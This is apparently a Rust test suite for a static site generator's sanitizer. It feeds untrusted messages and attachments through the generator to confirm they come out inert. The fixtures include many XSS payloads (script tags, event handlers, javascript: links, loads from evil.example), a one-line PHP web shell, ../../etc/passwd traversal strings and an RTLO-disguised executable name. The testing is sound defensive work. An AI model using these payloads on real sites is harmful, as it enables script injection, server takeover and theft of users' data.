//! Texts and files from an inbox are an adversary's, and so is what somebody else wrote in an outbox.

use crate::scene::{Scene, png};

const STEM: &str = "2026-01-01T10-00-00Z";

fn page(text: &str) -> String {
    page_in(Scene::subscription(), text)
}

/// The page of a text in an outbox that somebody else signed.
fn co_writers_page(text: &str) -> String {
    let (mine, theirs) = ("09".repeat(32), "01".repeat(32));
    let authors = format!("owner = \"{mine}\"\nown = [\"{mine}\"]\n[messages]\n\"{STEM}\" = \"{theirs}\"\n");
    page_in(Scene::new().file("outbox/.authors.toml", authors.as_bytes()), text)
}

fn page_in(scene: Scene, text: &str) -> String {
    let scene = scene.message(STEM, text).attachment(STEM, "p.png", &png(3, 4));
    scene.build().report();
    let page = scene.page(&format!("{STEM}.html"));
    let start = page.find("<main").unwrap();
    page[start..].to_owned()
}

#[test]
fn nothing_runs() {
    let payloads = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"p.png\" onload=\"alert(1)\">",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<style>body{display:none}</style>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=//evil.example/>",
        "<form action=//evil.example><input name=a><button>x</button></form>",
        "<iframe src=//evil.example></iframe>",
        "<object data=//evil.example></object><embed src=x>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<!--><script>alert(1)</script>-->",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"java&#9;script:alert(1)\">x</a>",
        "<a href=\"&#1;//evil.example\">x</a><img src=\"&#1;//evil.example/x.png\">",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<div style=\"position:fixed\" onclick=\"alert(1)\" id=\"main\" class=\"head\">x</div>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](<java\nscript:alert(1)>)",
        "[x](vbscript:msgbox)",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "[x](file:///etc/passwd)",
        "[x](//evil.example/x)",
        "[x](/\\evil.example/x)",
        "[x][r]\n\n[r]: javascript:alert(1)",
        "<javascript:alert(1)>",
        "![x](https://evil.example/track.png)",
        "<img src=\"https://evil.example/track.png\">",
        "<video poster=//evil.example/x.png src=//evil.example/x.mp4></video>",
        "<audio src=https://evil.example/x.mp3></audio>",
        "<a href=\"p.png\" target=_top ping=//evil.example>x</a>",
        "<details open ontoggle=alert(1)>x</details>",
        "# <img src=x onerror=alert(1)>",
        "`<script>`\n\n    <script>alert(1)</script>",
        "<textarea></main><script>alert(1)</script>",
        "</article></main><h1 id=main>fake</h1>",
        "<a id=location name=__proto__>x</a>\n\n## location\n\n## __proto__",
        "```\"><script>alert(1)</script>\nx\n```",
    ];
    for (payload, page) in payloads.into_iter().flat_map(|text| [(text, page(text)), (text, co_writers_page(text))]) {
        let page = page.to_lowercase();
        for danger in [
            "<script",
            "<style",
            "<meta",
            "<base",
            "<form",
            "<iframe",
            "<object",
            "<embed",
            "<link",
            "<textarea",
            "<svg",
            "<math",
            " onerror=",
            " onload=",
            " onclick=",
            " ontoggle=",
            " style=",
            " ping=",
            " target=",
        ] {
            // A title is words, whatever they are.
            let page = page.split(" title=\"").enumerate().fold(String::new(), |out, (number, part)| {
                out + if number == 0 { part } else { part.split_once('"').map_or("", |(_, rest)| rest) }
            });
            let text = page.replace("&lt;", "").replace("&quot;", "");
            let escaped = payload.contains('`') || payload.starts_with("```");
            assert!(escaped || !text.contains(danger) || !page.contains(danger), "{payload}\n{danger}\n{page}");
            assert!(!danger.starts_with('<') || !page.contains(danger), "{payload}\n{danger}\n{page}");
        }
        for attribute in ["href=\"", "src=\"", "poster=\""] {
            for value in page.split(attribute).skip(1).map(|rest| rest.split('"').next().unwrap()) {
                let scheme = value.split([':', '/']).next().unwrap();
                assert!(
                    !value.starts_with("//") && !value.starts_with("/\\") && !value.starts_with('\u{1}'),
                    "{payload}\n{value}"
                );
                assert!(!["javascript", "vbscript", "data", "file"].contains(&scheme), "{payload}\n{value}");
                assert!(attribute == "href=\"" || !value.starts_with("http"), "{payload}\nremote {value}");
            }
        }
        assert_eq!(page.matches("</main>").count(), 1, "{payload}");
        assert_eq!(page.matches("</article>").count(), 1, "{payload}\n{page}");
        assert!(!page.contains("id=\"location\"") && !page.contains("id=\"__proto__\""), "{payload}");
        assert_eq!(page.matches("id=\"main\"").count(), 1, "{payload}");
    }
}

#[test]
fn harmless_html_survives() {
    let page = page(
        "Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, <img src=\"p.png\" alt=\"mine\">, <a href=\"https://example.org/\">a link</a>",
    );
    assert!(page.contains("<kbd>Ctrl</kbd>") && page.contains("<sub>2</sub>"), "{page}");
    assert!(
        page.contains(&format!("src=\"{STEM}/p.png\"")) && page.contains("href=\"https://example.org/\""),
        "{page}"
    );
}

#[test]
fn remote_pictures_become_links() {
    let page = page("![a chart](https://example.org/chart.png)");
    assert!(
        page.contains("<a href=\"https://example.org/chart.png\" rel=\"nofollow noreferrer\">a chart</a>"),
        "{page}"
    );
}

#[test]
fn the_users_own_html_passes_unless_told_otherwise() {
    let scene = Scene::new().message(STEM, "<div class=\"mine\" style=\"x\"><img src=\"p.png\"></div>").attachment(
        STEM,
        "p.png",
        &png(3, 4),
    );
    scene.build().report();
    assert!(
        scene.page(&format!("{STEM}.html")).contains(&format!("<div class=\"mine\"><img src=\"{STEM}/p.png\"></div>"))
    );
    let scene = scene.settings("[site]\nraw_html = \"all\"\n");
    scene.build().report();
    assert!(scene.page(&format!("{STEM}.html")).contains("<div class=\"mine\" style=\"x\">"));
    let scene = scene.settings("[site]\nraw_html = false\n");
    scene.build().report();
    assert!(scene.page(&format!("{STEM}.html")).contains("&lt;div class="));
}

#[test]
fn active_files_are_published_under_inert_names() {
    let mut scene = Scene::subscription().message(STEM, "[page](page.html) ![drawing](d.svg)");
    for name in ["page.html", "d.svg", "x.js", "y.XHTML", "z.wasm", "s.css", "f.xml"] {
        scene = scene.attachment(STEM, name, b"<script>alert(1)</script>");
    }
    scene = scene.attachment(STEM, "tool.exe", b"MZ");
    scene.build().report();
    for name in scene.built().keys().filter_map(|name| name.strip_prefix(&format!("{STEM}/"))) {
        assert!(matches!(name.split('.').next_back(), Some("txt" | "bin")) || name == "tool.exe", "{name}");
    }
    let page = scene.page(&format!("{STEM}.html"));
    assert!(!page.contains("<img") && page.contains("a program: open it only if"), "{page}");
    let link = format!("<a href=\"{STEM}/page_html.txt\" download=\"page.html\">page</a>");
    assert!(page.contains(&link), "{page}");
}

/// The names under which a message's attachments are published.
fn published(scene: &Scene, stem: &str) -> Vec<String> {
    let built = scene.built();
    built.keys().filter_map(|name| Some(name.strip_prefix(&format!("{stem}/"))?.to_owned())).collect()
}

#[test]
fn of_several_endings_one_is_left() {
    // Apache's mod_mime reads each ending, in any order and case, and `a.html.en` as a page in English.
    let names = [
        "x.php.txt",
        "plain.shtml.bin",
        "photo.shtml.png",
        "Y.PHP.TXT",
        "index.html",
        "page.html.en",
        "web.config",
        "trailing.php.",
        "coded%2ephp.txt",
        "semi.asp;.txt",
        "v1.2/in.php/notes.txt",
        "report.v2.pdf",
        "archive.tar.gz",
        "plain.pdf",
    ];
    let text = "[report](report.v2.pdf) [php](x.php.txt) [notes](v1.2/in.php/notes.txt) ![photo](photo.shtml.png)";
    let picture = png(3, 4);
    let mut scene = Scene::subscription().message(STEM, text);
    for name in names {
        scene = scene.attachment(STEM, name, if name.ends_with("png") { &picture } else { b"<?php".as_slice() });
    }
    scene.build().report();
    let expected = [
        "Y_PHP.TXT",
        "archive_tar.gz",
        "coded%2ephp.txt",
        "index_html.txt",
        "page_html_en.bin",
        "photo_shtml.png",
        "plain.pdf",
        "plain_shtml_bin.bin",
        "report_v2.pdf",
        "semi_asp;.txt",
        "trailing-MARK_php.txt",
        "v1_2/in_php/notes.txt",
        "web_config.bin",
        "x_php.txt",
    ];
    assert_eq!(published(&scene, STEM).iter().map(|name| unmarked(name)).collect::<Vec<_>>(), expected);
    let page = scene.page(&format!("{STEM}.html"));
    for link in [
        "/report_v2.pdf\" download=\"report.v2.pdf\">report</a>",
        "/x_php.txt\" download=\"x.php.txt\">php</a>",
        "/v1_2/in_php/notes.txt\" download>notes</a>",
        "<img src=\"2026-01-01T10-00-00Z/photo_shtml.png\" alt=\"photo\"",
        "/index_html.txt\" download=\"index.html\"><bdi>index.html</bdi>",
        "<bdi>plain.pdf</bdi>",
    ] {
        assert!(page.contains(link), "{link}: {page}");
    }
    assert!(page.contains("<bdi>report.v2.pdf</bdi>"), "{page}");
}

/// A name with its mark, if it has one, as `MARK`.
fn unmarked(name: &str) -> String {
    match name.split_once('-') {
        Some((front, rest)) if rest.bytes().take(16).filter(u8::is_ascii_hexdigit).count() == 16 => {
            format!("{front}-MARK{}", &rest[16..])
        }
        _ => name.to_owned(),
    }
}

#[test]
fn names_that_become_one_are_kept_apart_whatever_comes_first() {
    let names = ["a.b.txt", "a_b.txt", "a.b/c.txt", "a_b/c.txt", "x.php", "x.php.txt", "x_php.txt"];
    let scene = |names: &[&str]| {
        let scene = Scene::subscription().message(STEM, "");
        names.iter().fold(scene, |scene, name| scene.attachment(STEM, name, name.as_bytes()))
    };
    let all = scene(&names);
    all.build().report();
    let built = all.built();
    assert_eq!(published(&all, STEM).len(), names.len());
    for name in names {
        let is_there = built.iter().any(|(path, bytes)| path.starts_with(STEM) && bytes == name.as_bytes());
        assert!(is_there, "{name}");
    }
    assert!(published(&all, STEM).iter().all(|name| name.matches('.').count() == 1), "{:?}", published(&all, STEM));
    let mut later = scene(&names[2..]);
    later.build().report();
    for name in &names[..2] {
        later = later.attachment(STEM, name, name.as_bytes());
    }
    later.build().report();
    crate::scene::assert_same(&later.built(), &later.clean(), "two came later");
    assert_eq!(published(&later, STEM), published(&all, STEM));
}

#[test]
fn ones_own_names_and_plain_ones_stay_as_they_are() {
    let names = ["v1.2/report.v2.pdf", "x.php.txt", "page.html", "photo.old.png"];
    let mut scene = Scene::new().message(STEM, "[report](v1.2/report.v2.pdf)");
    for name in names {
        scene = scene.attachment(STEM, name, b"mine");
    }
    scene.build().report();
    let mut expected = names.to_vec();
    expected.sort_unstable();
    assert_eq!(published(&scene, STEM), expected);
    let page = scene.page(&format!("{STEM}.html"));
    assert!(page.contains(&format!("<a href=\"{STEM}/v1.2/report.v2.pdf\">report</a>")), "{page}");
}

#[test]
fn a_strangers_tag_is_no_program() {
    let scene = Scene::subscription().message(STEM, "---\ntags: x.php, plain, v1_2, v1.2\n---\n#tag");
    scene.build().report();
    let mut tags: Vec<String> =
        scene.built().keys().filter_map(|name| Some(unmarked(name.strip_prefix("tag/")?))).collect();
    tags.sort_unstable();
    assert_eq!(tags, ["index.html", "plain.html", "tag.html", "v1_2-MARK.html", "v1_2.html", "x_php.html"]);
    let own = Scene::new().message(STEM, "---\ntags: v1.2\n---\n");
    own.build().report();
    assert!(own.has("tag/v1.2.html"));
}

#[test]
fn names_that_lie_are_shown_as_they_are() {
    let scene = Scene::subscription().message(STEM, "").attachment(STEM, "invoice\u{202e}gpj.exe", b"MZ");
    scene.build().report();
    let page = scene.page(&format!("{STEM}.html"));
    assert!(page.contains("invoice⟨U+202E⟩gpj.exe") && page.contains("EXE file"), "{page}");
    assert!(!page.split("download=\"").next().unwrap().contains('\u{202e}'));
}

#[test]
fn a_hostile_profile_is_text() {
    let scene = Scene::subscription().message(STEM, "x").file(
        "inbox/.channel.toml",
        b"title = \"<script>alert(1)</script>\"\nlink = \"javascript:alert(1)\"\nicon = \"../../etc/passwd\"\nlanguage = \"en\\\" onload=\\\"x\"\n",
    );
    scene.build().report();
    let index = scene.page("index.html");
    assert!(
        !index.contains("<script") && !index.contains("javascript:") && index.contains("<html lang=\"en\""),
        "{index}"
    );
}

#[test]
fn inboxes_are_never_written_to() {
    let scene = Scene::subscription().message(STEM, "x").file("inbox/strange.md", b"y");
    let before = crate::scene::files(&scene.path("inbox"));
    scene.build().report();
    for command in [vec!["channels"], vec!["check"], vec!["build", "blog"], vec!["why", "blog/inbox/strange.md"]] {
        scene.run(&command);
    }
    crate::scene::assert_same(&crate::scene::files(&scene.path("inbox")), &before, "after every command");
}

#[test]
fn what_a_server_would_run_is_published_under_inert_names() {
    let mut scene = Scene::subscription().message(STEM, "x");
    for name in ["x.php", "x.phtml", "x.shtml", "x.cgi", "x.pl", "x.asp", "x.jsp", "web.config", "no-ending", "x.rdf"] {
        scene = scene.attachment(STEM, name, b"<?php system($_GET['c']);");
    }
    scene.build().report();
    for name in scene.built().keys().filter_map(|name| name.strip_prefix(&format!("{STEM}/"))) {
        assert!(matches!(name.split('.').next_back(), Some("txt" | "bin")), "{name}");
    }
}

#[test]
fn a_strangers_form_is_no_form() {
    let page = page("<form><input name=q type=text><input type=image src=x></form>");
    assert!(!page.contains("name=") && !page.contains("type=\"text\"") && !page.contains("type=\"image\""), "{page}");
}

#[test]
fn nobody_forges_the_way_to_the_root() {
    for mark in [
        "&#1;",
        "&#x1;",
        "&#X01;",
        "&#01",
        "&#00000001;",
        "&#x000001;",
        "\u{1}",
        "%01",
        "&#1;&#1;",
        "&#&#1;1;",
        "\u{2401}",
    ] {
        let marked = |before: &str| format!("{before}{mark}");
        let texts = [
            marked("<a href=\"") + "../../../etc/passwd\">x</a>",
            marked("<a href='") + "/etc/passwd'>x</a>",
            marked("<A\nHREF=") + "..//evil.example>x</A>",
            marked("<img src=\"") + "../../x.png\">",
            marked("<video poster=\"") + "../x.png\" src=\"" + mark + "//evil.example/x.mp4\"></video>",
            marked("<b title=\"") + "\"><a href=\"" + mark + "../x\">x</a></b>",
            marked("[x](") + "../../x)",
            marked("![x](<") + "../../x.png>)",
            marked("<div>\n<a href=\"") + "../../x\">x</a>\n</div>",
        ];
        for text in texts {
            let page = page(&text);
            let main = page.split("class=\"e-content\"").nth(1).unwrap_or(&page);
            let main = main.split("</article>").next().unwrap();
            for attribute in ["href=\"", "src=\"", "poster=\""] {
                for value in main.split(attribute).skip(1).map(|rest| rest.split('"').next().unwrap()) {
                    assert!(!value.contains("..") && !value.starts_with('/'), "{text:?}\n{value:?}\n{main}");
                }
            }
            assert!(!page.contains('\u{1}'), "{text:?}");
        }
    }
}

#[test]
fn ones_own_html_keeps_its_words_and_no_mark() {
    let text = "<p title=\"&#1;a &amp; b &#65;\"><img src=\"p.png\"><IMG SRC='p.png'>\n<img\nsrc=p.png></p>";
    let scene = Scene::new().message(STEM, text).attachment(STEM, "p.png", &png(3, 4));
    scene.build().report();
    let page = scene.page(&format!("{STEM}.html"));
    assert!(page.contains("title=\"\u{fffd}a &amp; b A\""), "{page}");
    assert_eq!(page.matches(&format!("<img src=\"{STEM}/p.png\">")).count(), 3, "{page}");
    assert!(!page.contains('\u{1}'));
}

#[test]
fn an_open_comment_swallows_nothing() {
    let page = page("<div>x <!-- open\n\nA whole paragraph after.");
    assert!(page.contains("A whole paragraph after"), "{page}");
}
